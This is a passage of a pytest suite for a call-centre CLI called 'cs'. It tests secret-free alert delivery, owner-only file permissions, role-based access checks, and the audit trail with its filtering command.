    assert by_path["/webhook"]["headers"].get("Authorization") == f"Bearer {SECRETS['CS_WEBHOOK_TOKEN']}"
    assert "sign" in json.loads(by_path["/feishu"]["body"])
    assert "Error" in result.stderr and "email" in result.stderr
    _check_everything_for_secrets(alerting)


def test_a_failing_delivery_names_no_secret(alerting):
    closed = f"http://127.0.0.1:{free_port()}"
    text = _channels_toml(f"{closed}/dingtalk?access_token=x", f"{closed}/webhook", f"{closed}/feishu", free_port())
    path = alerting.tmp_path / "centre.toml"
    path.write_text(text, encoding="utf-8")
    alerting(["--as", "sue", "config", "load", str(path)])
    for extra in ([], ["--json"]):
        result = alerting(["--now", "2026-11-20T10:30", "jobs", "run", "overdue-alerts", *extra], expect=1)
        errors = [line for line in result.stderr.splitlines() if line.startswith("Error")]
        assert {name for name in ("dingtalk", "webhook", "feishu", "email") if any(name in e for e in errors)} == {
            "dingtalk", "webhook", "feishu", "email"}, result.stderr
    summary = alerting(["jobs", "status", "--json"]).json()
    assert [row["outcome"] for row in summary if row["job"] == "overdue-alerts"] == ["failed"]
    _check_everything_for_secrets(alerting)


def test_a_missing_secret_variable_fails_delivery_by_name(alerting, recorder, monkeypatch):
    monkeypatch.delenv("CS_DINGTALK_SECRET")
    text = _channels_toml(recorder.url("dingtalk"), recorder.url("webhook"), recorder.url("feishu"), free_port())
    path = alerting.tmp_path / "centre.toml"
    path.write_text(text, encoding="utf-8")
    alerting(["--as", "sue", "config", "load", str(path)])
    result = alerting(["--now", "2026-11-20T10:30", "jobs", "run", "overdue-alerts", "--channel", "dingtalk"],
                      expect=1)
    assert "CS_DINGTALK_SECRET" in result.stderr
    assert not [r for r in recorder.requests if r["path"].startswith("/dingtalk")]  # never sent unsigned


# =========================================================================== file modes


@pytest.fixture
def open_umask():
    """Umask 000: a file is owner-only because the code asks for it, not because of the umask."""
    previous = os.umask(0)
    yield
    os.umask(previous)


def _mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def test_a_new_database_and_its_companions_are_owner_only(cs, tmp_path, open_umask):
    path = tmp_path / "new" / "dir" / "cs.db"
    ok(cs(["--db", str(path), "agent", "add", "ann", "--name", "Ann"]))
    assert _mode(path) == 0o600
    assert _mode(path.parent) == 0o700
    conn = sqlite3.connect(path)  # keep the -wal and -shm files alive to look at them
    conn.execute("SELECT COUNT(*) FROM agents").fetchone()
    ok(cs(["--db", str(path), "ticket", "add", "--channel", "phone", "--category", "inquiry", "--summary", "x"]))
    for companion in (Path(f"{path}-wal"), Path(f"{path}-shm")):
        if companion.exists():
            assert _mode(companion) == 0o600, companion
    conn.close()


def test_backup_is_owner_only(cs, tmp_path, open_umask):
    ok(cs(["agent", "add", "ann", "--name", "Ann"]))
    target = tmp_path / "backups" / "cs-backup.db"
    ok(cs(["db", "backup", str(target)]))
    assert _mode(target) == 0o600
    target.chmod(0o644)
    ok(cs(["db", "backup", "--force", str(target)]))
    assert _mode(target) == 0o600
    with sqlite3.connect(target) as conn:
        assert conn.execute("SELECT handle FROM agents").fetchall() == [("ann",)]
    conn.close()


def test_reports_and_job_locks_are_owner_only(cs, tmp_path, open_umask):
    ok(cs(["agent", "add", "ann", "--name", "Ann"]))
    ok(cs(["--now", "2026-11-20T10:00", "ticket", "add", "--channel", "phone", "--category", "inquiry",
           "--summary", "x"]))
    report = tmp_path / "day.html"
    ok(cs(["report", "day", "--format", "html", "-o", str(report)]))
    assert _mode(report) == 0o600
    out = tmp_path / "reports"
    out.mkdir()
    ok(cs(["--now", "2026-11-21T09:00", "jobs", "run", "shift-reports", "--out", str(out)]))
    written = list(out.iterdir())
    assert written and all(_mode(p) == 0o600 for p in written)
    locks = list(Path(os.environ["CS_DB"]).parent.glob("*.lock"))
    assert locks and all(_mode(p) == 0o600 for p in locks)


def test_overwriting_a_readable_report_makes_it_owner_only(cs, tmp_path):
    report = tmp_path / "day.html"
    report.write_text("old")
    report.chmod(0o644)
    ok(cs(["report", "day", "--format", "html", "-o", str(report)]))
    assert _mode(report) == 0o600


@pytest.mark.parametrize("mode, warned", [(0o644, True), (0o640, True), (0o604, True), (0o600, False), (0o400, False)])
def test_db_info_warns_when_others_can_read_the_database(cs, mode, warned):
    ok(cs(["agent", "add", "ann", "--name", "Ann"]))
    path = Path(os.environ["CS_DB"])
    path.chmod(mode)
    try:
        result = ok(cs(["db", "info", "--json"]))
    finally:
        path.chmod(0o600)
    warnings = [line for line in result.stderr.splitlines() if line.startswith("Warning")]
    if warned:
        assert warnings and "chmod 600" in warnings[0] and str(path) in warnings[0], result.stderr
    else:
        assert warnings == [], result.stderr
    assert result.json()["mode"] == oct(mode)  # stdout stays data


# =========================================================================== roles


@pytest.fixture
def staffed(cs, tmp_path):
    """sue (supervisor), lee (leader), ann (agent); one deduction to void."""
    ok(cs(["agent", "add", "sue", "--name", "Sue", "--role", "supervisor"]))
    ok(cs(["--as", "sue", "agent", "add", "lee", "--name", "Lee", "--role", "leader", "--team", "A"]))
    ok(cs(["--as", "sue", "agent", "add", "ann", "--name", "Ann", "--team", "A"]))
    ok(cs(["--as", "sue", "violation", "add", "ann", "hygiene", "--at", "2026-11-19T10:00"]))
    ok(cs(["--as", "sue", "deductions", "run", "--date", "2026-11-19"]))
    config = tmp_path / "centre.toml"
    config.write_text('calendar = "mon-fri"\n', encoding="utf-8")
    return cs, str(config)


def _restricted(config_path: str) -> dict:
    return {
        "config set": ["config", "set", "calendar", "mon-fri"],
        "config load": ["config", "load", config_path],
        "violation add": ["violation", "add", "ann", "hygiene"],
        "deductions void": ["deductions", "void", "1", "--reason", "not fair"],
        "make a supervisor": ["agent", "add", "eve", "--name", "Eve", "--role", "supervisor"],
        "promote oneself": ["agent", "update", "ann", "--role", "supervisor"],
        "deactivate the supervisor": ["agent", "deactivate", "sue"],
    }


ALLOWED = {  # who may do each restricted thing
    "config set": {"sue"}, "config load": {"sue"}, "violation add": {"sue", "lee"}, "deductions void": {"sue"},
    "make a supervisor": {"sue"}, "promote oneself": {"sue"}, "deactivate the supervisor": {"sue"},
}


@pytest.mark.parametrize("action, actor", [(action, actor) for action in ALLOWED
                                           for actor in ("ann", "lee", "stranger", "ANN") if actor not in ALLOWED[action]])
def test_restricted_changes_are_refused_without_the_role(staffed, action, actor):
    cs, config_path = staffed
    before_audit = audit_rows()
    with sqlite3.connect(os.environ["CS_DB"]) as conn:
        before = {t: conn.execute(f"SELECT * FROM {t}").fetchall()
                  for t in ("config_versions", "violations", "deductions", "agents")}
    conn.close()
    result = cs(["--as", actor] + _restricted(config_path)[action])
    assert result.exit_code == 1, result
    assert "Traceback" not in result.stderr and result.stderr.startswith("Error:") and "role" in result.stderr
    assert audit_rows() == before_audit
    with sqlite3.connect(os.environ["CS_DB"]) as conn:
        assert before == {t: conn.execute(f"SELECT * FROM {t}").fetchall() for t in before}
    conn.close()


@pytest.mark.parametrize("action", list(ALLOWED))
def test_restricted_changes_are_allowed_with_the_role(staffed, action):
    cs, config_path = staffed
    actor = sorted(ALLOWED[action])[-1]  # the least powerful allowed actor (lee before sue)
    result = cs(["--as", actor] + _restricted(config_path)[action])
    assert result.exit_code == 0, (actor, result)


def test_a_deactivated_supervisor_has_no_power(staffed):
    cs, _ = staffed
    ok(cs(["--as", "sue", "agent", "add", "sam", "--name", "Sam", "--role", "supervisor"]))
    ok(cs(["--as", "sam", "agent", "deactivate", "sue"]))
    result = cs(["--as", "sue", "config", "set", "calendar", "mon-fri"])
    assert result.exit_code == 1 and "role" in result.stderr, result


# =========================================================================== audit trail


def _expect_audit(cs, argv, *, action, entity, entity_id, actor="sue", at=NOW, before=..., after_has=None):
    count = len(audit_rows())
    ok(cs(["--as", actor, "--now", at] + argv))
    rows = [row for row in audit_rows()[count:] if row["action"] == action]
    assert len(rows) == 1, (action, audit_rows()[count:])
    row = rows[0]
    assert row["actor"] == actor
    assert row["at"] == NOW_UTC  # stored in UTC, from --now
    assert row["entity"] == entity and row["entity_id"] == entity_id
    parsed_before = None if row["before"] is None else json.loads(row["before"])
    parsed_after = None if row["after"] is None else json.loads(row["after"])
    if before is not ...:
        assert parsed_before == before if before is None else parsed_before.items() >= before.items()
    assert isinstance(parsed_after, dict)
    if after_has:
        assert parsed_after.items() >= after_has.items(), parsed_after
    return parsed_before, parsed_after


@pytest.fixture
def audited(cs):
    ok(cs(["--now", "2026-11-20T09:00", "agent", "add", "sue", "--name", "Sue", "--role", "supervisor"]))
    ok(cs(["--as", "sue", "--now", "2026-11-20T09:00", "agent", "add", "ann", "--name", "Ann"]))
    ok(cs(["--as", "ann", "--now", "2026-11-20T09:00", "ticket", "add", "--channel", "phone", "--category",
           "complaint", "--summary", "漏水", "--phone", "13800138000"]))
    return cs


def test_audit_ticket_add(audited):
    _, after = _expect_audit(audited, ["ticket", "add", "--channel", "phone", "--category", "inquiry",
                                       "--summary", "新工单"], action="ticket.add", entity="ticket", entity_id="2",
                             before=None, after_has={"summary": "新工单", "status": "open"})
    assert after["created_by"] == "sue"


def test_audit_ticket_update(audited):
    _expect_audit(audited, ["ticket", "update", "1", "--summary", "漏水严重"], action="ticket.updated",
                  entity="ticket", entity_id="1", before={"summary": "漏水"}, after_has={"summary": "漏水严重"})


def test_audit_ticket_resolve(audited):
    _expect_audit(audited, ["ticket", "resolve", "1", "--resolution", "修好了"], action="ticket.resolved",
                  entity="ticket", entity_id="1", before={"status": "open", "resolved_at": None},
                  after_has={"status": "resolved", "resolution": "修好了", "resolved_at": NOW_UTC})


def test_audit_callback_done(audited):
    ok(audited(["--as", "ann", "--now", "2026-11-20T09:00", "callback", "add", "--ticket", "1", "--due", "+3d"]))
    _expect_audit(audited, ["callback", "done", "1", "--outcome", "satisfied"], action="callback.done",
                  entity="callback", entity_id="1", before={"status": "pending"},
                  after_has={"status": "done", "outcome": "satisfied", "done_at": NOW_UTC})


def test_audit_agent_add(audited):
    _expect_audit(audited, ["agent", "add", "bob", "--name", "Bob", "--team", "A"], action="agent.add",
                  entity="agent", entity_id="bob", before=None, after_has={"handle": "bob", "team": "A", "role": "agent"})


def test_audit_config_set(audited):
    _, after = _expect_audit(audited, ["config", "set", "calendar", "mon-fri"], action="config.set", entity="config",
                             entity_id="1", before={}, after_has={"calendar": "mon-fri"})


def test_audit_violation_add(audited):
    _expect_audit(audited, ["violation", "add", "ann", "hygiene", "--note", "桌面"], action="violation.add",
                  entity="violation", entity_id="1", before=None, after_has={"agent": "ann", "rule": "hygiene"})


def test_audit_deduction_void(audited):
    ok(audited(["--as", "sue", "--now", "2026-11-20T09:00", "violation", "add", "ann", "hygiene", "--at",
                "2026-11-19T10:00"]))
    ok(audited(["--as", "sue", "--now", "2026-11-20T09:00", "deductions", "run", "--date", "2026-11-19"]))
    _expect_audit(audited, ["deductions", "void", "1", "--reason", "误记"], action="deductions.void",
                  entity="deduction", entity_id="1", before={"voided": False},
                  after_has={"voided": True, "void_reason": "误记"})


def test_audit_handover_add(audited):
    _expect_audit(audited, ["handover", "add", "王先生下午回电", "--ticket", "1"], action="handover.add",
                  entity="handover", entity_id="1", before=None, after_has={"text": "王先生下午回电", "ticket_id": 1})


def test_audit_time_is_utc_whatever_the_centre_zone(audited):
    count = len(audit_rows())
    ok(audited(["--as", "sue", "--tz", "America/New_York", "--now", "2026-11-20T04:45:00-05:00", "ticket", "note",
                "1", "note"]))
    assert [row["at"] for row in audit_rows()[count:]] == [NOW_UTC]


def test_reads_write_no_audit_rows(audited):
    count = len(audit_rows())
    for argv in (["ticket", "list"], ["ticket", "show", "1"], ["config", "show"], ["audit"], ["report", "day"],
                 ["db", "info"], ["score"]):
        ok(audited(argv))
    assert len(audit_rows()) == count


# =========================================================================== cs audit

def _has_audit_command() -> bool:
    from cs.cli import COMMANDS

    return "audit" in COMMANDS


needs_audit = pytest.mark.skipif(not _has_audit_command(), reason="`cs audit` is not there yet")


@pytest.fixture
def history(audited):
    """Changes by three actors at three moments."""
    for at, actor, argv in [
        ("2026-11-20T10:00", "ann", ["ticket", "note", "1", "第一次"]),
        ("2026-11-20T11:00", "sue", ["ticket", "resolve", "1", "--resolution", "done"]),
        ("2026-11-21T09:00", "sue", ["config", "set", "calendar", "mon-fri"]),
        ("2026-11-21T10:00", "bob", ["ticket", "add", "--channel", "visit", "--category", "other", "--summary",
                                     "来访"]),
    ]:
        ok(audited(["--as", actor, "--now", at] + argv))
    return audited


@needs_audit
def test_audit_json_matches_its_schema(history):
    rows = ok(history(["--now", "2026-11-22T09:00", "audit", "--json"])).json()
    validator = schema_validator("audit")
    assert len(rows) == len(audit_rows())
    for row in rows:
        validator.validate(row)
        assert set(row) == {"id", "at", "actor", "action", "entity", "entity_id", "before", "after", "os_user",
                            "recorded_at", "backdated"}
        assert row["at"].endswith("+08:00")
        assert row["os_user"] == pwd.getpwuid(os.geteuid()).pw_name  # the login the test runs as
        assert row["backdated"] is True  # the tests' clock (2026-11) is far behind the real one
        assert row["before"] is None or isinstance(row["before"], dict)
        assert row["after"] is None or isinstance(row["after"], dict)
    assert [r["id"] for r in rows] == sorted((r["id"] for r in rows), reverse=True)  # newest first
    assert ok(history(["audit", "--format", "json"])).json() == ok(history(["audit", "--json"])).json()


@needs_audit
def test_audit_matches_the_table(history):
    rows = {r["id"]: r for r in ok(history(["audit", "--json"])).json()}
    for stored in audit_rows():
        shown = rows[stored["id"]]
        assert (shown["actor"], shown["action"], shown["entity"], shown["entity_id"]) == (
            stored["actor"], stored["action"], stored["entity"], stored["entity_id"])
        assert shown["before"] == (None if stored["before"] is None else json.loads(stored["before"]))
        assert shown["after"] == (None if stored["after"] is None else json.loads(stored["after"]))


@needs_audit
@pytest.mark.parametrize("argv, check", [
    (["--entity", "ticket", "--id", "1"], lambda r: r["entity"] == "ticket" and r["entity_id"] == "1"),
    (["--entity", "config"], lambda r: r["entity"] == "config"),
    (["--actor", "sue"], lambda r: r["actor"] == "sue"),
    (["--action", "ticket."], lambda r: r["action"].startswith("ticket.")),
    (["--action", "ticket.res"], lambda r: r["action"] == "ticket.resolved"),
    (["--since", "2026-11-21"], lambda r: r["at"] >= "2026-11-21T00:00:00+08:00"),
    (["--until", "2026-11-20"], lambda r: r["at"] < "2026-11-21T00:00:00+08:00"),
    (["--since", "2026-11-20T10:30", "--until", "2026-11-21T09:30"],
     lambda r: "2026-11-20T10:30:00+08:00" <= r["at"] < "2026-11-21T09:30:00+08:00"),
    (["--actor", "sue", "--action", "config"], lambda r: r["actor"] == "sue" and r["action"] == "config.set"),
], ids=["entity+id", "entity", "actor", "action prefix", "action longer prefix", "since", "until date", "window",
        "actor+action"])
def test_audit_filters(history, argv, check):
    everything = ok(history(["audit", "--json"])).json()
    rows = ok(history(["audit", "--json"] + argv)).json()
    assert rows, argv
    assert all(check(r) for r in rows), rows
    assert [r for r in everything if check(r)] == rows  # and nothing matching is left out


@needs_audit
def test_audit_limit_and_empty_results(history):
    rows = ok(history(["audit", "--json", "--limit", "2"])).json()
    assert len(rows) == 2 and rows == ok(history(["audit", "--json"])).json()[:2]
    for argv in (["--actor", "nobody"], ["--action", "ticket_"], ["--action", "%"], ["--entity", "ticket", "--id", "99"],
                 ["--since", "2030-01-01"]):
        result = ok(history(["audit", "--json"] + argv))
        assert result.json() == [], argv
    assert ok(history(["audit", "--actor", "nobody"])).stdout == ""


@needs_audit
def test_audit_refuses_bad_options(history):
    for argv in (["--since", "yesterdayy"], ["--limit", "0"], ["--format", "xml"], ["--sort", "before"],
                 ["--limit", str(2**70)]):
        result = history(["audit"] + argv)
        assert result.exit_code == 2 and "Error" in result.stderr, (argv, result)
